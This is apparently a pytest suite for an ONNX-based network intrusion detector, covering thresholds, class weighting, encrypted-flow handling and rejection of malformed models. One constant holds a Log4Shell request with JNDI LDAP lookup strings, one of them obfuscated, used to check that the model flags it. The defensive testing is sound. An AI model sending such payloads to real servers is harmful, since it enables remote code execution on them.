"""The ONNX detector's contract, held against tiny models built here and against the committed one."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import onnx
import pytest
from onnx import TensorProto, helper

from engine.detect.model import ModelDetector
from engine.types import Direction, FlowUpdate, Party, Severity, UpdateReason
from tests import factories

COMMITTED = Path(__file__).parents[3] / "models" / "flow-cnn.onnx"
LOG4SHELL = (
    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: shop.example\r\n"
    b"User-Agent: ${jndi:${lower:l}dap://203.0.113.9:1389/b}\r\nAccept: */*\r\n\r\n"
)
PLAIN_GET = b"GET /index.html HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"
CLIENT_HELLO = (
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(32)) + b"\x00\x00\x20\x13\x02\x13\x03\x13\x01"
)
Build = Callable[..., Path]


def update(
    to_server: bytes = b"",
    to_client: bytes = b"",
    reason: UpdateReason = UpdateReason.END,
    flow_id: str = "1:a",
    app: str = "",
) -> FlowUpdate:
    head = (to_server[:512], to_client[:512])
    return factories.update(factories.flow(id=flow_id, head=head, app=app), reason, at=2.0, direction=None, chunk=b"")


@pytest.fixture
def build(tmp_path: Path) -> Build:
    """Write a model whose first output is ``attack`` for a window that starts with ``!`` and ``calm`` otherwise."""

    def write(
        attack: tuple[float, ...] = (5.0,),
        calm: tuple[float, ...] = (-5.0,),
        names: tuple[str, str] = ("input_ids", "attention_mask"),
        tokens: int = 512,
        kind: int = TensorProto.INT64,
        card: object = None,
    ) -> Path:
        inputs = [helper.make_tensor_value_info(name, kind, ["n", tokens]) for name in names]
        constants = [
            helper.make_tensor("one", TensorProto.INT64, [1], [1]),
            helper.make_tensor("mark", kind, [1], [ord("!") + 3]),
            helper.make_tensor("attack", TensorProto.FLOAT, [len(attack)], attack),
            helper.make_tensor("calm", TensorProto.FLOAT, [len(calm)], calm),
        ]
        nodes = [
            helper.make_node("Gather", [names[0], "one"], ["first"], axis=1),
            helper.make_node("Equal", ["first", "mark"], ["found"]),
            helper.make_node("Where", ["found", "attack", "calm"], ["out"]),
            helper.make_node("Identity", [names[1]], ["unused"]),
        ]
        output = helper.make_tensor_value_info("out", TensorProto.FLOAT, ["n", len(attack)])
        graph = helper.make_graph(nodes, "tiny", inputs, [output], constants)
        path = tmp_path / "tiny.onnx"
        onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9), path)
        if card is not None:
            path.with_suffix(".json").write_text(json.dumps(card))
        return path

    return write


def test_one_logit_above_the_threshold_becomes_a_detection(build: Build) -> None:
    path = build()
    detector = ModelDetector(path)
    (found,) = detector.inspect(update(b"!attack"))
    assert (found.detector, found.label, found.flow_id, found.at) == ("model", "model.malicious", "1:a", 2.0)
    assert found.score == pytest.approx(0.99331, abs=1e-4)
    assert found.version == detector.version == hashlib.sha256(path.read_bytes()).hexdigest()[:12]
    assert found.excerpt == b"!attack"
    assert detector.inspect(update(b"calm", flow_id="1:b")) == ()


@pytest.mark.parametrize(
    ("attack", "calm", "card", "score"),
    [
        ((0.0, 0.0, 4.0), (4.0, 0.0, 0.0), {"threshold": 0.9}, 0.9647),
        ((0.0, 4.0, 0.0), (4.0, 0.0, 0.0), {"threshold": 0.9, "malicious_classes": [1, 2]}, 0.9823),
    ],
    ids=["threat is the last class", "threat is what the card says"],
)
def test_several_classes_are_weighed_by_softmax(
    build: Build, attack: tuple[float, ...], calm: tuple[float, ...], card: object, score: float
) -> None:
    detector = ModelDetector(build(attack, calm, card=card))
    (found,) = detector.inspect(update(b"!attack"))
    assert found.score == pytest.approx(score, abs=1e-3)
    assert detector.inspect(update(b"calm", flow_id="1:b")) == ()


def test_the_order_of_the_inputs_in_the_file_does_not_matter(build: Build) -> None:
    path = build()
    model = onnx.load(path)
    model.graph.input.reverse()
    onnx.save(model, path)
    assert ModelDetector(path).score([b"!", b"?"]).round(2).tolist() == [0.99, 0.01]


@pytest.mark.parametrize(
    ("given", "card", "expected"),
    [(None, None, 0.95), (None, {"threshold": 0.7}, 0.7), (0.8, {"threshold": 0.7}, 0.8)],
    ids=["default", "calibrated on the card", "set by the administrator"],
)
def test_the_threshold_comes_from_settings_then_card_then_default(
    build: Build, given: float | None, card: object, expected: float
) -> None:
    assert ModelDetector(build(card=card), given).threshold == expected


def test_each_direction_is_judged_on_its_own_and_the_worse_one_counts(build: Build) -> None:
    detector = ModelDetector(build())
    (request,) = detector.inspect(update(b"!attack", b"calm"))
    (reply,) = detector.inspect(update(b"calm", b"!attack", flow_id="1:b"))
    assert (request.spans[0].direction, request.attacker) == (Direction.TO_SERVER, Party.INITIATOR)
    assert (reply.spans[0].direction, reply.attacker) == (Direction.TO_CLIENT, Party.RESPONDER)
    assert detector.scores["1:b"] == reply.score


def test_a_score_near_certainty_is_high_and_a_lesser_one_medium(build: Build) -> None:
    (high,) = ModelDetector(build((6.0,))).inspect(update(b"!"))
    (medium,) = ModelDetector(build((4.0,))).inspect(update(b"!"))
    assert (high.severity, medium.severity) == (Severity.HIGH, Severity.MEDIUM)


def test_a_head_is_judged_once_until_it_grows(build: Build) -> None:
    detector = ModelDetector(build())
    assert len(detector.inspect(update(b"!a", reason=UpdateReason.QUIET))) == 1
    assert detector.inspect(update(b"!a", b"calm", reason=UpdateReason.QUIET)) == ()
    assert len(detector.inspect(update(b"!a more", b"calm", reason=UpdateReason.WINDOW))) == 1
    assert detector.inspect(update(b"!a more", b"calm")) == ()


@pytest.mark.parametrize("reason", [UpdateReason.NEW, UpdateReason.PAYLOAD])
def test_packets_in_between_are_not_judged(build: Build, reason: UpdateReason) -> None:
    detector = ModelDetector(build())
    assert detector.inspect(update(b"!a", reason=reason)) == ()
    assert "1:a" not in detector.scores


def test_a_new_flow_under_an_old_id_is_judged_afresh(build: Build) -> None:
    detector = ModelDetector(build())
    detector.inspect(update(b"calm and long", reason=UpdateReason.END))
    assert len(detector.inspect(update(b"!new flow but shorter, or not at all", reason=UpdateReason.QUIET))) == 1


def test_what_is_remembered_is_bounded(build: Build, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("engine.detect.model.MEMORY_FLOWS", 3)
    detector = ModelDetector(build())
    for number in range(10):
        detector.inspect(update(b"calm", flow_id=f"1:{number}", reason=UpdateReason.QUIET))
    assert list(detector.scores) == ["1:7", "1:8", "1:9"]
    assert len(detector._judged) == 3


@pytest.mark.parametrize("flow", [update(b"\x16\x03\x01!"), update(b"!", b"SSH-2.0-x\r\n"), update(b"!", app="quic")])
def test_encrypted_flows_are_not_judged_where_the_card_says_so(build: Build, flow: FlowUpdate) -> None:
    detector = ModelDetector(build(calm=(5.0,), card={"no_say": ["tls", "ssh", "quic"]}))
    assert detector.inspect(flow) == ()
    assert flow.flow.id not in detector.scores


def test_a_model_without_a_card_judges_encrypted_flows_too(build: Build) -> None:
    assert len(ModelDetector(build(calm=(5.0,))).inspect(update(CLIENT_HELLO))) == 1


@pytest.mark.parametrize(
    ("wrong", "problem"),
    [
        ({"names": ("tokens", "attention_mask")}, "inputs are"),
        ({"tokens": 128}, r"expected int64 \[n, 512\]"),
        ({"kind": TensorProto.INT32}, r"expected int64 \[n, 512\]"),
        ({"card": {"threshold": 3}}, "threshold"),
        ({"card": {"malicious_classes": [4]}, "attack": (0.0, 1.0), "calm": (1.0, 0.0)}, "malicious classes"),
        ({"attack": (float("nan"),), "calm": (float("nan"),)}, "not numbers"),
    ],
    ids=["input names", "window size", "token type", "card threshold", "card classes", "output not a number"],
)
def test_a_model_that_does_not_fit_is_refused_by_name(build: Build, wrong: dict[str, object], problem: str) -> None:
    path = build(**wrong)
    with pytest.raises(ValueError, match=problem) as refusal:
        ModelDetector(path)
    assert "tiny" in str(refusal.value)


def test_a_corrupt_file_is_refused_by_name(tmp_path: Path) -> None:
    path = tmp_path / "broken.onnx"
    path.write_bytes(b"not a model")
    with pytest.raises(ValueError, match=r"broken\.onnx: not a usable ONNX file"):
        ModelDetector(path)


def test_a_missing_file_is_refused_by_name(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match=r"absent\.onnx"):
        ModelDetector(tmp_path / "absent.onnx")


def test_a_model_without_an_end_is_refused_and_not_read() -> None:
    with pytest.raises(ValueError, match="/dev/zero is not a regular file"):
        ModelDetector("/dev/zero")


def test_onnxruntime_is_loaded_with_the_model_and_not_before() -> None:
    code = "import sys, engine.detect.model; sys.exit('onnxruntime' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_the_committed_model_tells_log4shell_from_a_plain_request() -> None:
    detector = ModelDetector(COMMITTED)
    attack, plain = detector.score([LOG4SHELL, PLAIN_GET])
    assert attack >= detector.threshold > plain


def test_the_committed_model_has_no_say_on_tls() -> None:
    detector = ModelDetector(COMMITTED)
    assert detector.inspect(update(CLIENT_HELLO)) == ()
    assert detector.score([CLIENT_HELLO])[0] < detector.threshold


def test_neighbour_discovery_and_ping_are_not_judged(build: Build) -> None:
    detector = ModelDetector(build())
    ping = update(b"!attack")
    ends = ping.flow.five_tuple._replace(proto="icmp6")
    assert detector.inspect(replace(ping, flow=replace(ping.flow, five_tuple=ends))) == ()
    assert ping.flow.id not in detector.scores
